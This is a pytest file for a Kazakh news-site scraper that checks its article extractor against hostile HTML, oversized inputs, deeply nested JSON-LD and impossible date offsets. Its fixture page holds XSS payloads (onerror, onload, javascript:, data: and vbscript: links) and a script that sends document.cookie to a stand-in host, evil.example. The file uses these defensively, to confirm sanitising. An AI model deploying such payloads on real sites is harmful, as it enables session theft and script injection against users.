"""Hostile content: scripts and event handlers never run and never reach a field as markup;
links in the related blocks are http(s) only."""

from __future__ import annotations

import pytest

from kazscraper.clean.article import clean_article
from kazscraper.extract.article import extract_article
from kazscraper.sites import get_profile

PROFILE = get_profile("qazdauiri")
URL = "https://qazdauiri.kz/news/hostile"
PARAGRAPH = (
    "Облыс әкімдігі жаңа аурухана құрылысының екінші кезеңін бастады. Нысан 2026 жылы "
    "пайдалануға беріледі деп күтілуде, онда 300 төсек-орын болады."
)
HOSTILE = f"""<!DOCTYPE html><html lang="kk"><head>
<title>Аурухана құрылысы</title>
<script>document.cookie = "stolen"; fetch("https://evil.example/?" + document.cookie)</script>
<meta property="og:title" content="Аурухана &lt;script&gt;alert(1)&lt;/script&gt; құрылысы">
</head><body onload="alert('onload')">
<article><h1 class="news-title" onmouseover="alert('h1')">Аурухана құрылысы</h1>
<div class="news-text">
<p onclick="alert('p')">{PARAGRAPH}</p>
<script>alert("inline")</script>
<p><img src="x" onerror="alert('img')"><a href="javascript:alert('a')">Толығырақ оқу</a>
 Құрылысқа 12 миллиард теңге бөлінді.<iframe src="https://evil.example/frame"></iframe></p>
<style>p {{ background: url("javascript:alert('css')") }}</style>
<noscript><p>JavaScript қосыңыз</p></noscript>
<p><strong>ЖҰМАБАЕВ Ержан Болатұлы,</strong></p><p>11.12.2025</p>
</div>
<section><h3>Ұқсас жаңалықтар</h3><ul>
<li><a href="javascript:alert('similar')">Зиянды сілтеме</a> 10.12.2025</li>
<li><a href="data:text/html,<script>alert(1)</script>">Деректер сілтемесі</a> 09.12.2025</li>
<li><a href="vbscript:msgbox(1)">VB сілтеме</a> 08.12.2025</li>
<li><a href="/news/durys-silteme">Дұрыс сілтеме</a> 07.12.2025</li>
</ul></section></article></body></html>"""


def extract():
    return clean_article(
        extract_article(HOSTILE, URL, PROFILE, "2025-12-12T08:00:00+00:00"), PROFILE
    )


def test_no_script_or_handler_reaches_a_text_field() -> None:
    article = extract()
    # the title is checked on its own below: escaped markup in og:title is text
    fields = [article.body, article.lead, article.affiliation, article.category]
    fields += [a.name for a in article.authors] + [r.title for r in article.related]
    text = " ".join(f for f in fields if f)
    markers = ["alert", "cookie", "onerror", "onclick", "<iframe", "<img", "<p", "evil"]
    for marker in [*markers, "JavaScript"]:  # <noscript> text is not the article's either
        assert marker not in text, marker
    assert article.body.startswith(PARAGRAPH)
    assert "Құрылысқа 12 миллиард теңге бөлінді." in article.body


def test_a_title_that_contains_markup_text_is_kept_as_plain_text() -> None:
    # og:title carries escaped markup: it is text, stored as text, never parsed or run
    assert extract().title == "Аурухана <script>alert(1)</script> құрылысы"


def test_related_links_are_http_only() -> None:
    related = [r for r in extract().related if r.kind == "similar"]
    assert [r.url for r in related if r.url] == ["https://qazdauiri.kz/news/durys-silteme"]
    assert all(r.url is None for r in related if r.title != "Дұрыс сілтеме")


def _page(head: str = "", lang: str = "kk") -> str:
    body = HOSTILE.split("<article>", 1)[1]
    return f'<!DOCTYPE html><html lang="{lang}"><head>{head}</head><body><article>{body}'


@pytest.mark.parametrize("depth", [50, 5_000, 200_000])
def test_deeply_nested_json_ld_is_skipped_and_the_article_still_extracted(depth: int) -> None:
    nested = "[" * depth + "]" * depth  # json.loads raises RecursionError past ~1000
    author = '{"@type":"NewsArticle","headline":"JSON-LD тақырыбы","author":' + nested + "}"
    chain = '{"@graph":' * depth + '{"@type":"NewsArticle"}' + "}" * depth
    head = "".join(
        f'<script type="application/ld+json">{raw}</script>' for raw in (nested, author, chain)
    )
    article = clean_article(extract_article(_page(head), URL, PROFILE), PROFILE)
    assert article.body.startswith(PARAGRAPH)
    assert article.title in ("JSON-LD тақырыбы", "Аурухана құрылысы")
    assert [a.name for a in article.authors] == ["Жұмабаев Ержан Болатұлы"]


@pytest.mark.parametrize(
    ("lang", "expected"),
    [
        ("kk", "kk"),
        ("kk-KZ", "kk"),
        ("RU", "ru"),
        ("x" * 100_000, None),
        ("kk<script>", None),
        ("", "kk"),  # no declaration: the site profile's language
        ("12", None),
    ],
)
def test_the_language_is_a_short_language_tag_or_none(lang: str, expected: str | None) -> None:
    article = clean_article(extract_article(_page(lang=lang), URL, PROFILE), PROFILE)
    assert article.language == expected


def test_a_page_of_more_elements_than_the_cap_is_not_extracted(seed_html: str) -> None:
    """A page of more than MAX_ELEMENTS elements is refused once parsed (libxml2 counts
    them): every layer walks the tree several times, a million <br> took 44 s."""
    from kazscraper.extract.article import MAX_ELEMENTS, PageTooComplex, parse_html

    head = "<html><body><p>x</p>"
    # <html>, <body>, <p> and the <br>s: exactly the cap is read, one more is not
    parse_html(head + "<br>" * (MAX_ELEMENTS - 3) + "</body></html>")
    with pytest.raises(PageTooComplex, match=f"page too complex: {MAX_ELEMENTS + 1} elements"):
        parse_html(head + "<br>" * (MAX_ELEMENTS - 2) + "</body></html>")
    with pytest.raises(PageTooComplex):  # nested inline tags count the same
        parse_html(head + "<i><b>x</b></i>" * MAX_ELEMENTS + "</body></html>")
    assert parse_html(seed_html) is not None  # a real page is far under it


@pytest.mark.parametrize(
    "stamp",
    [
        "2025-01-01T00:00:00+99:99",  # an offset past a day: datetime refuses it
        "9999-12-31T23:59:59-12:00",  # in the site's zone: past year 9999
        "0001-01-01T00:00:00+14:00",  # in the site's zone: before year 1
    ],
)
def test_a_date_whose_offset_no_clock_holds_costs_only_its_time(seed_html: str, stamp: str) -> None:
    """A JSON-LD datePublished with an impossible offset raised (ValueError, OverflowError)
    out of the extraction: the whole article was lost to one field. Now that date is the day
    it says, without a time of day, or no date; the article is extracted."""
    data = f'{{"@type": "NewsArticle", "datePublished": "{stamp}"}}'
    ld = f'<script type="application/ld+json">{data}</script>'
    html = seed_html.replace("</head>", ld + "</head>", 1)
    profile = get_profile("qazdauiri")
    article = extract_article(
        html, "https://qazdauiri.kz/news/x", profile, "2025-06-01T00:00:00+00:00"
    )
    assert article.title and article.body
    assert article.published_at is None or article.published_at[:4] not in ("0000", "10000")
